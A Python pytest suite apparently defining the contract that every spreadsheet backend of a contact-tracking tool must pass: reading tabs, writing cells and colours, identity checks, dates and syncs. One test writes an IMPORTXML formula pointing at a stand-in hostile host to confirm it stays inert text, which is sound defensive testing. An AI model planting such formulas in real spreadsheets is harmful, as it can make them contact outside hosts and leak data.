"""The contract every backend keeps, written once and run against each of them.

A backend's test class subclasses `BackendContract` and says how to build a backend
holding some tabs (`make_backend`) and how to see what it really holds, bypassing the
backend (`read_back`).
"""

from __future__ import annotations

import datetime as dt
from collections.abc import Callable, Mapping, Sequence
from typing import Any

import pytest
from core_helpers import TODAY, make_config

from sheets_keepup.app.init import init_sheet
from sheets_keepup.app.snapshots import SnapshotStore
from sheets_keepup.app.sync import sync
from sheets_keepup.backends import Backend
from sheets_keepup.backends.base import BackendBase
from sheets_keepup.core.diff import same_colour
from sheets_keepup.core.errors import SheetChangedError
from sheets_keepup.core.model import CellWrite, ChangeSet, Identity, RowFill, SheetData

Rows = list[list[Any]]
Backgrounds = Mapping[tuple[str, int, int], str]
BackgroundOf = Callable[[str, int, int], "str | None"]

CONTACTS: Rows = [
    ["Name", "Email", "Tier", "Last contact", "Notes"],
    ["Ada Lovelace", "ada@example.com", "close", TODAY - dt.timedelta(days=90), "engines"],
    ['=HYPERLINK("https://example.com","Bob")', "bob@example.com", "core", None, "formula?"],
    ["Chen Wei", "chen@example.net", "network", TODAY - dt.timedelta(days=10), None],
]
LOG: Rows = [["Date", "Who", "Kind"], [TODAY - dt.timedelta(days=2), "Chen Wei", "coffee"]]


def normalised(rows: Sequence[Sequence[Any]]) -> Rows:
    """Rows as plain values: datetimes as dates, trailing empty cells and rows dropped."""
    out: Rows = []
    for row in rows:
        line = [v.date() if isinstance(v, dt.datetime) else (None if v == "" else v) for v in row]
        while line and line[-1] is None:
            line.pop()
        out.append(line)
    while out and not out[-1]:
        out.pop()
    return out


class Recorder(BackendBase):
    """Wraps a backend and counts `apply` calls."""

    def __init__(self, inner: Backend) -> None:
        self.inner = inner
        self.applied: list[ChangeSet] = []

    def describe(self) -> str:
        return self.inner.describe()

    def read(self, tabs: Sequence[str]) -> SheetData:
        return self.inner.read(tabs)

    def apply(self, changes: ChangeSet) -> None:
        self.applied.append(changes)
        self.inner.apply(changes)


class BackendContract:
    """Tests every backend must pass. Subclasses implement the two hooks below."""

    def make_backend(
        self, tabs: dict[str, Rows], backgrounds: Backgrounds | None = None
    ) -> Backend:
        """A backend holding `tabs` (and cell fills by (tab, row, col))."""
        raise NotImplementedError

    def read_back(self, backend: Backend) -> tuple[dict[str, Rows], BackgroundOf]:
        """What the backend's storage holds now, read without the backend."""
        raise NotImplementedError

    # --- reading ---------------------------------------------------------------------------

    def test_read_returns_tabs_and_skips_missing(self) -> None:
        backend = self.make_backend({"Contacts": CONTACTS, "Other": [["x"]]})
        data = backend.read(["Contacts", "Log"])
        assert list(data.tabs) == ["Contacts"]
        assert normalised(data.tabs["Contacts"].rows) == normalised(CONTACTS)

    def test_read_reports_backgrounds(self) -> None:
        backend = self.make_backend({"Contacts": CONTACTS}, {("Contacts", 1, 0): "#F4C7C3"})
        tab = backend.read(["Contacts"]).tabs["Contacts"]
        assert same_colour(tab.background(1, 0), "#F4C7C3")
        assert tab.background(2, 0) is None

    def test_declares_every_capability_of_the_protocol(self) -> None:
        backend = self.make_backend({"Contacts": CONTACTS, "Other": [["x"]]})
        assert isinstance(backend, Backend)
        assert backend.tab_titles() == ["Contacts", "Other"]
        assert isinstance(backend.credentials_note(), str)
        assert backend.file_to_create() is None
        before = backend.requests
        backend.read(["Contacts"])
        assert isinstance(before, int) and backend.requests >= before
        assert backend.last_write is None

    # --- writing ---------------------------------------------------------------------------

    def test_apply_writes_cells_and_fills(self) -> None:
        backend = self.make_backend({"Contacts": CONTACTS}, {("Contacts", 3, 1): "#D9EAD3"})
        backend.read(["Contacts"])
        backend.apply(
            ChangeSet(
                tab="Contacts",
                cells=[CellWrite(0, 5, "Status"), CellWrite(1, 5, "overdue")],
                fills=[RowFill(1, 0, 6, "#F4C7C3"), RowFill(3, 0, 6, None)],
            )
        )
        tabs, background = self.read_back(backend)
        assert tabs["Contacts"][0][5] == "Status" and tabs["Contacts"][1][5] == "overdue"
        assert all(same_colour(background("Contacts", 1, c), "#F4C7C3") for c in range(6))
        assert background("Contacts", 3, 1) is None
        assert background("Contacts", 2, 0) is None

    def test_identity_mismatch_raises_and_writes_nothing(self) -> None:
        backend = self.make_backend({"Contacts": CONTACTS})
        backend.read(["Contacts"])
        changes = ChangeSet(
            tab="Contacts",
            cells=[CellWrite(1, 5, "Email Ada"), CellWrite(3, 5, "Email Chen")],
            fills=[RowFill(1, 0, 6, "#F4C7C3")],
            identity=Identity(
                0, 1, {1: ("Ada Lovelace", "ada@example.com"), 3: ("Someone", "else@example.com")}
            ),
        )
        with pytest.raises(SheetChangedError):
            backend.apply(changes)
        tabs, background = self.read_back(backend)
        assert tabs["Contacts"] == normalised(CONTACTS)
        assert background("Contacts", 1, 0) is None

    def test_text_starting_with_equals_stays_text(self) -> None:
        backend = self.make_backend({"Contacts": CONTACTS})
        backend.read(["Contacts"])
        formula = '=IMPORTXML("https://evil.example","//a")'
        backend.apply(ChangeSet(tab="Contacts", cells=[CellWrite(1, 5, formula)]))
        tabs, _ = self.read_back(backend)
        assert tabs["Contacts"][1][5] == formula
        assert tabs["Contacts"][2][0] == CONTACTS[2][0]
        assert backend.read(["Contacts"]).tabs["Contacts"].value(1, 5) == formula

    def test_dates_round_trip_as_dates(self) -> None:
        backend = self.make_backend({"Contacts": CONTACTS})
        backend.read(["Contacts"])
        day = dt.date(2027, 2, 28)
        backend.apply(ChangeSet(tab="Contacts", cells=[CellWrite(1, 5, day)]))
        tabs, _ = self.read_back(backend)
        assert tabs["Contacts"][1][5] == day
        read = backend.read(["Contacts"]).tabs["Contacts"].value(1, 5)
        assert read == day or read == dt.datetime(2027, 2, 28)

    def test_none_clears_a_cell(self) -> None:
        backend = self.make_backend({"Contacts": CONTACTS})
        backend.read(["Contacts"])
        backend.apply(ChangeSet(tab="Contacts", cells=[CellWrite(1, 4, None)]))
        tabs, _ = self.read_back(backend)
        assert tabs["Contacts"][1] == CONTACTS[1][:4]

    # --- whole syncs -----------------------------------------------------------------------

    def test_full_sync_twice_second_changes_nothing_and_applies_nothing(self) -> None:
        backend = Recorder(self.make_backend({"Contacts": CONTACTS, "Log": LOG}))
        config = make_config()
        first = sync(backend, config, TODAY)
        assert first.written and len(backend.applied) == 1
        second = sync(backend, config, TODAY)
        assert not second.written and not second.changes
        assert len(backend.applied) == 1  # an empty change set is never sent

    def test_sync_leaves_user_cells_unchanged(self) -> None:
        backend = self.make_backend({"Contacts": CONTACTS, "Log": LOG})
        sync(backend, make_config(), TODAY)
        tabs, _background = self.read_back(backend)
        width = len(CONTACTS[0])
        assert normalised([r[:width] for r in tabs["Contacts"]]) == normalised(CONTACTS)
        assert tabs["Contacts"][0][width:] == ["Next action", "Due", "Status"]
        assert tabs["Log"] == normalised(LOG)
        for row in (1, 2, 3):
            assert tabs["Contacts"][row][width + 2] in ("overdue", "due soon", "ok", "check")

    # --- init and highlight modes ----------------------------------------------------------

    def test_init_sets_up_a_blank_sheet_in_one_write(self) -> None:
        backend = Recorder(self.make_backend({"Sheet1": []}))
        result = init_sheet(backend, make_config(), TODAY, sample=True)
        assert result.written and len(backend.applied) == 1
        tabs, _ = self.read_back(backend.inner)
        assert tabs["Contacts"][0][:2] == ["Name", "Email"]
        assert tabs["Contacts"][0][-3:] == ["Next action", "Due", "Status"]
        assert all(str(r[0]).startswith("Example:") for r in tabs["Contacts"][1:])
        assert tabs["Log"][0] == ["Date", "Who", "Kind", "Note"]
        assert tabs["Sheet1"] == []
        assert sync(backend, make_config(), TODAY).written

    def test_init_adds_only_what_is_missing(self) -> None:
        backend = Recorder(self.make_backend({"Contacts": CONTACTS}))
        init_sheet(backend, make_config(), TODAY, sample=True)
        assert len(backend.applied) == 1
        tabs, _ = self.read_back(backend.inner)
        assert tabs["Contacts"][0] == [*CONTACTS[0], "Next action", "Due", "Status"]
        assert tabs["Contacts"][1:] == normalised(CONTACTS)[1:]
        assert tabs["Log"] == [["Date", "Who", "Kind", "Note"]]

    def test_highlight_modes_keep_user_colours(self, tmp_path: Any) -> None:
        yellow, blue = "#FFFF00", "#CFE2F3"
        user = {("Contacts", 1, 0): yellow, ("Contacts", 2, 4): blue}
        backend = self.make_backend({"Contacts": CONTACTS, "Log": LOG}, user)
        store = SnapshotStore(tmp_path, backend.describe())
        width, owned = len(CONTACTS[0]) + 3, range(len(CONTACTS[0]), len(CONTACTS[0]) + 3)

        def run(mode: str) -> dict[int, str]:
            config = make_config(highlight=mode)
            result = sync(backend, config, TODAY, snapshots=store)
            return {int(r): str(c) for r, c in result.plan.rows["colour"].items()}

        def check(expected: Callable[[int, int, str], str | None], status: dict[int, str]) -> None:
            _, background = self.read_back(backend)
            for row, colour in status.items():
                for col in range(width):
                    want = expected(row, col, colour)
                    got = background("Contacts", row, col)
                    assert same_colour(got, want), (row, col, got, want)

        def mine(row: int, col: int) -> str | None:
            return user.get(("Contacts", row, col))

        status = run("status")
        check(lambda r, c, colour: colour if c in owned else mine(r, c), status)
        status = run("none")
        check(lambda r, c, colour: mine(r, c), status)
        status = run("row")
        check(lambda r, c, colour: colour, status)
        status = run("status")
        check(lambda r, c, colour: colour if c in owned else None, status)
        assert not sync(backend, make_config(highlight="status"), TODAY, snapshots=store).written
